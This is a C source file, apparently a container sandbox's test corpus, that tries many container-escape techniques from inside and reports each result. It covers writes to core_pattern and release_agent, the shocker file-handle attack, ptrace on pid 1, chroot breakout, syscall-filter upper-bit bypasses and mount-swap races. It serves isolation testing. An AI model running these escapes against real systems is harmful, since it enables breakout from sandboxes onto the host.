/*
 * The attacks of the escape corpus: what a hostile program tries, from inside, with
 * all that it is given. See README.md. Nothing here does harm if it succeeds: files
 * are opened for writing and not written to, and the devices are nobody's.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_alg.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#define COUNT(a) (sizeof(a) / sizeof *(a))
#define UPPER (1UL << 32) /* of a register, which the kernel cuts off, and a filter may not */

enum { NOTHING = -2 }; /* it worked, and gained nothing */

/* ---- files ---- */

/* what reaches the host, or out of the cgroup, if it can be written to */
static const char *written[] = {
	"/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hotplug", "/proc/sys/kernel/sysrq",
	"/proc/sys/kernel/poweroff_cmd", "/proc/sys/fs/binfmt_misc/register", "/proc/sys/vm/panic_on_oom", "/proc/sys/kernel/ns_last_pid",
	"/proc/sys/net/ipv4/conf/all/route_localnet", "/proc/sysrq-trigger", "/proc/irq/default_smp_affinity",
	"/proc/acpi/wakeup", "/proc/scsi/scsi", "/proc/kcore", "/proc/mtrr",
	"/sys/kernel/uevent_helper", "/sys/kernel/profiling", "/sys/kernel/mm/ksm/run", "/sys/power/state", "/sys/class/net/lo/mtu",
	"/sys/module/kernel/parameters/panic", "/sys/fs/cgroup/release_agent", "/sys/fs/cgroup/memory/release_agent",
	"/sys/fs/cgroup/memory/notify_on_release", "/sys/fs/cgroup/memory/memory.limit_in_bytes", "/sys/fs/cgroup/memory/cgroup.procs",
	"/sys/fs/cgroup/pids/pids.max", "/sys/fs/cgroup/devices/devices.allow", "/sys/fs/cgroup/systemd/release_agent",
	"/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/cgroup.subtree_control", "/sys/fs/cgroup/memory.max",
	"/sys/fs/cgroup/unified/cgroup.procs", "/disk", "/char", "/proc/1/mem", "/proc/1/exe", "/proc/1/fd/3",
};

/* What is masked can be opened: it is /dev/null. */
static int write_to(const char *path)
{
	struct stat st;
	int fd = open(path, O_WRONLY | O_NOCTTY);
	return fd >= 0 && fstat(fd, &st) == 0 && S_ISCHR(st.st_mode) && st.st_rdev == makedev(1, 3) ? NOTHING : fd;
}

/* what must show nothing */
static const char *read_from[] = {
	"/proc/acpi", "/proc/asound", "/proc/interrupts", "/proc/kcore", "/proc/keys", "/proc/latency_stats", "/proc/sched_debug",
	"/proc/scsi", "/proc/timer_list", "/proc/timer_stats", "/sys/devices/virtual/powercap", "/sys/firmware", "/disk", "/char",
	"/proc/1/environ", "/proc/1/mem", "/proc/1/maps", "/proc/1/fd/3", "/proc/1/exe", "/proc/1/root", "/proc/1/cwd", "/proc/1/ns/mnt",
	"/proc/1/map_files", "/proc/1/auxv",
};

static int show(const char *path)
{
	char byte;
	int fd = open(path, O_RDONLY | O_NOCTTY), n = 0;
	if (fd < 0)
		return -1;
	DIR *d = fdopendir(fd);
	for (struct dirent *e; d && (e = readdir(d));)
		n += e->d_name[0] != '.';
	return n > 0 || (!d && read(fd, &byte, 1) > 0) ? 0 : NOTHING;
}

/* where a cgroup of one's own would be made */
static const char *made[] = {
	"/sys/fs/cgroup/x", "/sys/fs/cgroup/memory/x", "/sys/fs/cgroup/pids/x", "/sys/fs/cgroup/devices/x", "/sys/fs/cgroup/systemd/x",
	"/sys/fs/cgroup/unified/x",
};

static int make(const char *path) { return mkdir(path, 0755); }

/* what other programs that start in DIR will mount on */
static const char *exchanged[][2] = {
	{"/proc", "/bin"}, {"/sys", "/bin"}, {"/dev", "/bin"}, {"/proc", "/sys"}, {"/dev/pts", "/dev/shm"}, {"/dev/shm", "/dev/null"},
	{"/dev/mqueue", "/dev/pts"},
};

/* ---- system calls ---- */

static int mount_proc(void) { return mount("proc", "/bin", "proc", 0, NULL); }
static int mount_cgroup(void) { return mount("none", "/bin", "cgroup", 0, "memory"); }
static int mount_bind(void) { return mount("/proc", "/bin", NULL, MS_BIND | MS_REC, NULL); }
static int remount_sys(void) { return mount(NULL, "/sys", NULL, MS_REMOUNT | MS_BIND, NULL); }
static int remount_proc_sys(void) { return mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL); }
static int unmount_mask(void) { return umount2("/proc/interrupts", MNT_DETACH); }
static int unmount_proc_sys(void) { return umount2("/proc/sys", MNT_DETACH); }
static int new_proc(void) { return syscall(SYS_fsopen, "proc", 0); }
static int clone_tree(void) { return syscall(SYS_open_tree, AT_FDCWD, "/", 1); }
static int set_mount(void)
{
	unsigned long attr[4] = {0, 1 /* MOUNT_ATTR_RDONLY */, 0, 0};
	return syscall(SYS_mount_setattr, AT_FDCWD, "/proc/sys", 0, attr, sizeof attr);
}
static int pivot(void) { return syscall(SYS_pivot_root, "/bin", "/bin"); }

/* as test no_pivot of runc: a new proc without masks, in namespaces of one's own */
static int unshare_all(void) { return unshare(CLONE_NEWNS | CLONE_NEWPID | CLONE_NEWUSER) || mount_proc() ? -1 : 0; }
static int unshare_mounts(void) { return unshare(CLONE_NEWNS); }
static int unshare_cgroup(void) { return unshare(CLONE_NEWUSER | CLONE_NEWCGROUP); }
static int unshare_net(void) { return unshare(CLONE_NEWUSER | CLONE_NEWNET); }
static int child(long r)
{
	if (r == 0)
		_exit(0);
	return r;
}
static int clone_user(void) { return child(syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0)); }
static int clone_user_upper(void) { return child(syscall(SYS_clone, UPPER | CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0)); }
static int clone_three(void)
{
	unsigned long args[11] = {CLONE_NEWUSER, [4] = SIGCHLD};
	return child(syscall(SYS_clone3, args, sizeof args));
}

/* out of a chroot in which only this is: with a descriptor from before */
static int chroot_out(int by_descriptor)
{
	struct stat before, after;
	int up = open("/", O_RDONLY);
	if (stat("/", &before) < 0)
		return -1;
	if (chroot("/bin") < 0)
		return -1;
	if (by_descriptor && fchdir(up) < 0)
		return -1;
	for (int i = 0; i < 100; i++)
		if (chdir("..") < 0)
			return -1;
	if (chroot(".") < 0 || stat("/", &after) < 0)
		return -1;
	return before.st_dev == after.st_dev && before.st_ino == after.st_ino ? NOTHING : 0;
}
static int chroot_fchdir(void) { return chroot_out(1); }
static int chroot_cwd(void) { return chroot_out(0); }

/* shocker: the host's root directory by its inode */
static int shocker(void)
{
	struct {
		struct file_handle head;
		unsigned int inode[2];
	} h = {{8, 1}, {2, 0}};
	int fd = open("/", O_RDONLY);
	return syscall(SYS_open_by_handle_at, fd, &h, O_RDONLY);
}

static int block_node(void) { return mknod("/new-disk", S_IFBLK | 0600, makedev(240, 0)); }
static int char_node(void) { return mknod("/dev/new-char", S_IFCHR | 0600, makedev(240, 0)); }

static int alg(void) { return socket(AF_ALG, SOCK_SEQPACKET, 0); }
static int alg_upper(void) { return syscall(SYS_socket, UPPER | AF_ALG, SOCK_SEQPACKET, 0); }
static int packet_upper(void) { return syscall(SYS_socket, UPPER | AF_PACKET, SOCK_RAW, 0); }
static int packet_type_upper(void) { return syscall(SYS_socket, AF_INET, UPPER | SOCK_PACKET, 0); }
static int vsock_upper(void) { return syscall(SYS_socket, UPPER | AF_VSOCK, SOCK_STREAM, 0); }
static int usersock_upper(void) { return syscall(SYS_socket, UPPER | AF_NETLINK, SOCK_RAW, UPPER | 2); }
static int core(long limit, long call)
{
	struct rlimit none = {0, 0}, now;
	if (call == SYS_setrlimit)
		syscall(call, limit, &none);
	else
		syscall(call, 0, limit, &none, NULL);
	if (getrlimit(RLIMIT_CORE, &now) < 0)
		return -1;
	return now.rlim_cur == 0 ? 0 : NOTHING;
}
static int core_upper(void) { return core(UPPER | RLIMIT_CORE, SYS_prlimit64); }
static int core_old_upper(void) { return core(UPPER | RLIMIT_CORE, SYS_setrlimit); }
static int request_key(void) { return syscall(SYS_request_key, "user", "x", NULL, 0); }
static int join_keyring(void) { return syscall(SYS_keyctl, 1, "_ses", 0, 0, 0); }
static int new_key(void) { return syscall(SYS_add_key, "user", "x", "y", 1, -3); }

/* pid 1 has the socket to contain, and what the program has not */
static int seize(void) { return ptrace(PTRACE_SEIZE, 1, 0, 0); }
static int attach(void) { return ptrace(PTRACE_ATTACH, 1, 0, 0); }
static int read_memory(void)
{
	char byte;
	struct iovec here = {&byte, 1}, there = {(void *)0x400000, 1};
	return process_vm_readv(1, &here, 1, &there, 1, 0);
}
static int get_descriptor(void)
{
	int pid1 = syscall(SYS_pidfd_open, 1, 0);
	return pid1 < 0 ? -1 : syscall(SYS_pidfd_getfd, pid1, 3, 0);
}
static int enter(void) { return setns(syscall(SYS_pidfd_open, 1, 0), CLONE_NEWNS); }
static int pin_upper(void)
{
	cpu_set_t set;
	return sched_getaffinity(0, sizeof set, &set) ? -1 : syscall(SYS_sched_setaffinity, UPPER | 1, sizeof set, &set);
}
static int limit_upper(void)
{
	struct rlimit none = {0, 0};
	return syscall(SYS_prlimit64, UPPER | 1, RLIMIT_SIGPENDING, &none, NULL);
}

#ifdef __x86_64__
static int i386_socketcall(void)
{
	int args[3] = {AF_ALG, SOCK_SEQPACKET, 0}, r;
	__asm__ volatile("int $0x80" : "=a"(r) : "0"(102), "b"(1), "c"((long)args) : "memory", "r8", "r9", "r10", "r11");
	errno = -r;
	return r < 0 ? -1 : 0;
}
static int x32_unshare(void) { return syscall(0x40000000 | SYS_unshare, CLONE_NEWUSER); }
#endif

static const struct {
	const char *name;
	int (*run)(void);
} calls[] = {
	{"mount proc", mount_proc}, {"mount cgroup", mount_cgroup}, {"mount bind", mount_bind}, {"remount /sys", remount_sys},
	{"remount /proc/sys", remount_proc_sys}, {"unmount /proc/interrupts", unmount_mask}, {"unmount /proc/sys", unmount_proc_sys},
	{"fsopen proc", new_proc}, {"open_tree", clone_tree}, {"mount_setattr", set_mount}, {"pivot_root", pivot},
	{"unshare and mount proc", unshare_all}, {"unshare mounts", unshare_mounts}, {"unshare cgroup", unshare_cgroup},
	{"unshare net", unshare_net}, {"clone user", clone_user}, {"clone user, upper bits", clone_user_upper}, {"clone3 user", clone_three},
	{"chroot and fchdir", chroot_fchdir}, {"chroot and chdir", chroot_cwd}, {"shocker", shocker},
	{"mknod block", block_node}, {"mknod char", char_node},
	{"socket alg", alg}, {"socket alg, upper bits", alg_upper}, {"socket packet, upper bits", packet_upper},
	{"socket of packet type, upper bits", packet_type_upper}, {"socket vsock, upper bits", vsock_upper},
	{"socket netlink usersock, upper bits", usersock_upper},
	{"core limit, upper bits", core_upper}, {"core limit by setrlimit, upper bits", core_old_upper},
	{"request_key", request_key}, {"keyctl", join_keyring}, {"add_key", new_key},
	{"pid 1: seize", seize}, {"pid 1: attach", attach}, {"pid 1: read memory", read_memory}, {"pid 1: get descriptor", get_descriptor},
	{"pid 1: enter", enter}, {"pid 1: pin, upper bits", pin_upper}, {"pid 1: limit, upper bits", limit_upper},
#ifdef __x86_64__
	{"i386 socketcall", i386_socketcall}, {"x32 unshare", x32_unshare},
#endif
};

/* try runs an attack in a child, and prints what came of it */
static void try(const char *what, const char *on, int (*run)(void), int (*run_on)(const char *))
{
	int status, r;
	if (getpid() == 1 && (strncmp(what, "pid 1", 5) == 0 || (on && strncmp(on, "/proc/1/", 8) == 0)))
		return; /* it is this one */
	printf("%s%s: ", what, on ? on : "");
	fflush(stdout);
	if (fork() == 0) {
		r = on ? run_on(on) : run();
		printf("%s\n", r == NOTHING ? "nothing" : r < 0 ? strerror(errno) : "SUCCESS");
		fflush(stdout);
		_exit(0);
	}
	wait(&status);
	if (WIFSIGNALED(status))
		printf("killed by signal %d\n", WTERMSIG(status));
}

/* attempts: all of the above */
static int do_attempts(char **arg)
{
	(void)arg;
	for (size_t i = 0; i < COUNT(written); i++)
		try("write ", written[i], NULL, write_to);
	for (size_t i = 0; i < COUNT(read_from); i++)
		try("read ", read_from[i], NULL, show);
	for (size_t i = 0; i < COUNT(made); i++)
		try("mkdir ", made[i], NULL, make);
	for (size_t i = 0; i < COUNT(calls); i++)
		try(calls[i].name, NULL, calls[i].run, NULL);
	for (size_t i = 0; i < COUNT(exchanged); i++) {
		int r = syscall(SYS_renameat2, AT_FDCWD, exchanged[i][0], AT_FDCWD, exchanged[i][1], 2 /* RENAME_EXCHANGE */);
		printf("exchange %s %s: %s\n", exchanged[i][0], exchanged[i][1], r < 0 ? strerror(errno) : "SUCCESS");
	}
	return 0;
}

/* flip US A B [A B]...: exchange A and B, a pair after the other, for ever, with up to
 * so many microseconds in between */
__attribute__((noreturn)) static int do_flip(char **arg)
{
	int most = atoi(arg[0]);
	for (int first = 1;; first = 0) {
		for (char **pair = arg + 1; pair[0] && pair[1]; pair += 2) {
			syscall(SYS_renameat2, AT_FDCWD, pair[0], AT_FDCWD, pair[1], 2 /* RENAME_EXCHANGE */);
			if (most > 0)
				usleep(random() % most);
		}
		if (first) {
			puts("ready");
			fflush(stdout);
		}
	}
}

/* mounts DIR...: print the table of mounts, in whichever of these procfs is, though it
 * may be moved meanwhile */
static int do_mounts(char **arg)
{
	static char text[1 << 16];
	for (int i = 0, n = 0; i < 1000; i++, n = arg[n + 1] ? n + 1 : 0) {
		snprintf(text, sizeof text, "%s/self/mountinfo", arg[n]);
		int fd = open(text, O_RDONLY);
		ssize_t more = 0, got = 0;
		while (fd >= 0 && (more = read(fd, text + got, sizeof text - got)) > 0)
			got += more;
		if (got > 0)
			return write(1, text, got) != got;
		close(fd);
	}
	puts("no /proc");
	return 1;
}

/* peel FILE: with CAP_SYS_ADMIN, unmount the root, and enter the mount namespace anew:
 * whether what is beneath is the host's, which has that file */
static int do_peel(char **arg)
{
	struct stat st;
	int own = open("/proc/self/ns/mnt", O_RDONLY);
	umount2("/", MNT_DETACH);
	puts(setns(own, CLONE_NEWNS) < 0 ? strerror(errno) : stat(arg[0], &st) == 0 ? "SUCCESS" : "nothing");
	return 0;
}

/* keyring: print the number of the session's */
static int do_keyring(char **arg)
{
	(void)arg;
	printf("%ld\n", syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3 /* KEY_SPEC_SESSION_KEYRING */, 0));
	return 0;
}

/* reach NAME: connect to an abstract socket */
static int do_reach(char **arg)
{
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	int s = socket(AF_UNIX, SOCK_STREAM, 0), n = snprintf(a.sun_path + 1, sizeof a.sun_path - 1, "%s", arg[0]);
	puts(connect(s, (void *)&a, offsetof(struct sockaddr_un, sun_path) + 1 + n) < 0 ? strerror(errno) : "reached");
	return 0;
}

static const struct {
	const char *name;
	int args;
	int (*run)(char **);
} verbs[] = {
	{"attempts", 0, do_attempts}, {"flip", 3, do_flip}, {"mounts", 1, do_mounts}, {"peel", 1, do_peel},
	{"keyring", 0, do_keyring}, {"reach", 1, do_reach},
};

int main(int argc, char **argv)
{
	for (size_t i = 0; argc > 1 && i < COUNT(verbs); i++)
		if (strcmp(argv[1], verbs[i].name) == 0 && argc - 2 >= verbs[i].args)
			return verbs[i].run(argv + 2);
	fprintf(stderr, "escape: no such verb, or too few arguments\n");
	return 200;
}
